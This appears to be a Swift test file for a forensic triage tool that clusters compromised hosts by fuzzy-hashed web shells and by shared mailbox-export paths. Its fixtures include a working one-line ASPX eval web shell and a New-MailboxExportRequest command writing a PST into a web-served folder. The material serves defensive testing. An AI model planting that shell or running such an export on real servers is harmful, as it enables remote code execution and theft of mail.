@testable import CaseStore
import Detection
import ExTriageCore
import Testing
import TestSupport

/// Indicators that tie hosts without an identical value: edited versions of one shell (ssdeep),
/// and the path a mailbox export wrote to.
@Suite struct SimilarShellTests {
    /// An ASPX page of `lines` lines, different for each seed.
    static func page(lines: Int, seed: UInt64) -> [UInt8] {
        var state = seed &* 6364136223846793005 &+ 1442695040888963407
        var text = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"k\"],\"unsafe\");%>\n"
        for line in 0..<lines {
            state = state &* 6364136223846793005 &+ 1442695040888963407
            text += "<% Response.Write(\"\(line) \(String(state, radix: 36))\"); // \(String(state >> 7, radix: 16)) %>\n"
        }
        return Array(text.utf8)
    }

    /// A host with one confirmed shell whose content hashes to `fuzzy`, and nothing else in common.
    static func host(_ name: String, seed: Character, shellName: String, content: [UInt8]) throws -> AnalysisReport {
        var shell = FleetFixtures.webShell(path: "inetpub/wwwroot/aspnet_client/\(shellName)", sha256: String(repeating: String(seed), count: 64),
                                           requestedAt: nil, client: "")
        shell.pivots[.shellFuzzy] = [try #require(FuzzyHash.ssdeep(content))]
        return FleetFixtures.report(host: name, sha256: FleetFixtures.sha(seed), verdict: .compromised, findings: [shell])
    }

    static func fleet(_ reports: [AnalysisReport]) throws -> FleetReport {
        let temp = try TemporaryDirectory()
        let store = try CaseStore(url: .sqlite(path: temp.path + "/case.sqlite"))
        for report in reports { try store.add(CaseEntry(report: report, sha256: report.bundle.sha256 ?? "")) }
        return try FleetReportBuilder().build(from: store)
    }

    /// Two hosts with edited variants of one shell (other SHA-256, other names) cluster together;
    /// a host with an unrelated shell does not join them.
    @Test func editedVariantsOfOneShellTieTheirHosts() throws {
        let original = Self.page(lines: 80, seed: 3)
        var edited = original
        edited.replaceSubrange(1200..<1240, with: Array("<% // second drop: password moved here %>".utf8))
        edited += Array("<% Response.Write(\"v2\"); %>\n".utf8)
        let unrelated = Self.page(lines: 80, seed: 4)
        let fleet = try Self.fleet([
            try Self.host("srv1", seed: "1", shellName: "help.aspx", content: original),
            try Self.host("srv2", seed: "2", shellName: "errorfe.aspx", content: edited),
            try Self.host("srv3", seed: "3", shellName: "shell.aspx", content: unrelated),
            FleetFixtures.report(host: "srv4", sha256: FleetFixtures.sha("4"), verdict: .noEvidenceFound, findings: []),
        ])
        #expect(fleet.clusters.count == 1)
        let cluster = try #require(fleet.clusters.first)
        #expect(cluster.hosts == ["srv1", "srv2"])
        #expect(cluster.indicators.map(\.kind) == ["shellFuzzy"])
        #expect(cluster.indicators.first?.hosts == ["srv1", "srv2"])
        #expect(cluster.why.contains("shellFuzzy"))
        #expect(fleet.hosts.first { $0.host == "srv3" }?.clusters == [])
    }

    @Test func similarHashesFormOneFamilyNamedByItsFirstHash() throws {
        let a = try #require(FuzzyHash.ssdeep(Self.page(lines: 80, seed: 5)))
        var bytes = Self.page(lines: 80, seed: 5)
        bytes.replaceSubrange(600..<640, with: Array(repeating: UInt8(ascii: "x"), count: 40))
        let b = try #require(FuzzyHash.ssdeep(bytes))
        let c = try #require(FuzzyHash.ssdeep(Self.page(lines: 80, seed: 6)))
        let families = IndicatorClustering().fuzzyFamilies([a, b, c])
        #expect(families[a] == families[b] && families[a] == min(a, b))
        #expect(families[c] == c)
    }

    /// A finding carrying a `mailboxExportPath` pivot (the mailbox-export check sets it) ties the
    /// hosts that exported to the same path, whatever its case; another path ties nothing.
    @Test func aSharedMailboxExportPathTiesHosts() throws {
        func export(_ host: String, _ seed: Character, path: String) -> AnalysisReport {
            let finding = Finding(checkId: "EXT-MAILBOX-EXPORT", title: "Mailbox exported to a web folder", severity: .critical, verdict: .confirmed,
                                  evidence: [Evidence(member: "evidence/C/cmdlet.log", originalPath: "cmdlet.log", line: 9,
                                                      timestamp: FleetFixtures.time("2021-03-04T02:00:00Z"),
                                                      excerpt: "New-MailboxExportRequest -FilePath \(path)", sha256: FleetFixtures.sha("8"))],
                                  explanation: "PST written where the web server serves it", pivots: [.mailboxExportPath: [path]])
            return FleetFixtures.report(host: host, sha256: FleetFixtures.sha(seed), verdict: .compromised, findings: [finding])
        }
        let fleet = try Self.fleet([
            export("mb1", "1", path: #"\\mb1\c$\inetpub\wwwroot\aspnet_client\out.pst"#),
            export("mb2", "2", path: #"\\MB1\C$\inetpub\wwwroot\aspnet_client\OUT.pst"#),
            export("mb3", "3", path: #"C:\Users\Public\archive.pst"#),
            FleetFixtures.report(host: "mb4", sha256: FleetFixtures.sha("4"), verdict: .noEvidenceFound, findings: []),
        ])
        #expect(fleet.clusters.count == 1)
        let cluster = try #require(fleet.clusters.first)
        #expect(cluster.hosts == ["mb1", "mb2"])
        #expect(cluster.indicators.map(\.kind) == ["mailboxExportPath"])
        #expect(cluster.indicators.first?.value == #"\\mb1\c$\inetpub\wwwroot\aspnet_client\out.pst"#)
        #expect(cluster.waves.first?.start == FleetFixtures.time("2021-03-04T02:00:00Z"))
    }
}
